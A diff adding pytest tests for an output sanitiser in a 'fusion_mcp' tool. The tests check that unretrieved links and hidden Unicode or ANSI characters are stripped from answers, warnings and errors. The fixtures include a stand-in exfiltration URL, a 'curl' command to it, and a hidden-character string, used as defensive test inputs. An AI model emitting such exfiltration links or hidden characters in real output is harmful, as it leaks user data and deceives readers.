@@ -1,0 +1,109 @@
+"""What leaves: every string clean, no image, and no link that nobody retrieved and the person did not give."""
+
+import json
+from typing import Any
+
+import pytest
+
+from fusion_mcp.errors import FusionFailed
+from fusion_mcp.links import known_links
+from fusion_mcp.presentation import presentable, presentable_failure
+from fusion_mcp.result import FusionResult
+from fusion_mcp.types import Bill, MemberFailure
+
+KNOWN = "https://read.example/page"
+EVIL = "https://evil.example/collect?data=secret"
+HIDDEN = "\u202e\U000e0041\x1b[31m\u200b"
+
+
+def result(**changes: Any) -> FusionResult:
+    usage = {"calls": 1}
+    fields: dict[str, Any] = {
+        "run_id": "r1",
+        "kind": "ask",
+        "preset": "trio",
+        "status": "ok",
+        "answer": "Paris.",
+        "answered_by": "synthesizer",
+        "responses": [{"model": "work:alpha", "content": "Paris.", "usage": usage, "seconds": 1.0}],
+        "sources": [{"url": KNOWN, "title": "A page", "used_by": ["work:alpha"]}],
+        "usage": usage,
+        "seconds": {"total": 1.0},
+    }
+    return FusionResult.model_validate(fields | changes)
+
+
+def shown(found: FusionResult, *given: str) -> FusionResult:
+    return presentable(found, "full", known_links([*given, *(source.url for source in found.sources)]))
+
+
+def analysis(text: str) -> dict[str, Any]:
+    return {
+        "consensus": [text],
+        "contradictions": [{"topic": text, "stances": [{"model": "work:alpha", "stance": text}]}],
+        "partial_coverage": [{"models": ["work:alpha"], "point": text}],
+        "unique_insights": [{"model": "work:alpha", "insight": text}],
+        "blind_spots": [text],
+    }
+
+
+@pytest.mark.parametrize(
+    "text", [f"[here]({EVIL})", f"see {EVIL}", f"<{EVIL}>", f"`curl {EVIL}`", f"![x]({EVIL})", HIDDEN]
+)
+def test_every_string_of_a_result_is_clean(text: str) -> None:
+    found = shown(
+        result(
+            answer=text,
+            analysis=analysis(text),
+            responses=[{"model": "work:alpha", "content": text, "usage": {"calls": 1}, "seconds": 1.0}],
+            failed_models=[{"model": "work:beta", "reason": "upstream_error", "error": text}],
+            sources=[{"url": KNOWN, "title": text, "used_by": ["work:alpha"]}],
+        )
+    )
+    left = json.dumps(found.model_copy(update={"warnings": []}).model_dump(mode="json"), ensure_ascii=False)
+    assert "evil.example" not in left
+    assert not any(sign in left for sign in HIDDEN if not sign.isascii() or not sign.isprintable())
+
+
+def test_links_that_were_retrieved_or_given_stay_as_they_are() -> None:
+    answer = f"Paris ([page]({KNOWN}), https://given.example/x#part)."
+    assert shown(result(answer=answer), "https://given.example/x").answer == answer
+
+
+def test_links_taken_out_of_the_answer_are_named_first_and_each_once() -> None:
+    responses = [
+        {"model": "work:alpha", "content": f"{EVIL} https://b.example/", "usage": {"calls": 1}, "seconds": 1.0}
+    ]
+    found = shown(result(answer=f"[report]({EVIL}) and {EVIL}", responses=responses))
+    assert found.answer == "report and [link removed]"
+    assert found.warnings == [
+        f"Taken out of the answer, since nobody retrieved it in this run: `{EVIL}`.",
+        "Taken out of the answer of work:alpha, since nobody retrieved it in this run: `https://b.example/`.",
+    ]
+
+
+def test_many_links_are_counted_and_long_ones_cut() -> None:
+    answer = " ".join(f"https://evil.example/{n}/{'x' * 300}" for n in range(13))
+    (warning,) = shown(result(answer=answer)).warnings
+    assert warning.endswith("… and 3 more.") or " and 3 more." in warning
+    assert len(warning) < 2500
+
+
+def test_names_of_models_are_no_links() -> None:
+    response = {"model": "work:www.model.example", "content": "Paris.", "usage": {"calls": 1}, "seconds": 1.0}
+    assert shown(result(responses=[response])).responses[0].model == "work:www.model.example"
+
+
+def test_warnings_keep_their_links_and_lose_what_is_hidden() -> None:
+    assert shown(result(warnings=[f"Nobody read {EVIL}.{HIDDEN}"])).warnings == [f"Nobody read {EVIL}."]
+
+
+def test_a_failure_names_the_persons_own_provider_and_nobody_elses_address() -> None:
+    own = "http://127.0.0.1:8900/v1"
+    error = f"cannot be reached at {own}/chat/completions; it said: visit {EVIL}"
+    failure = MemberFailure(seat="work:alpha", reason="upstream_error", error=error, bill=Bill())
+    failed = presentable_failure(
+        FusionFailed("all_panels_failed", "nobody answered", [failure]), known_links((), prefixes=[own])
+    )
+    assert f"{own}/chat/completions" in str(failed)
+    assert "evil.example" not in str(failed)
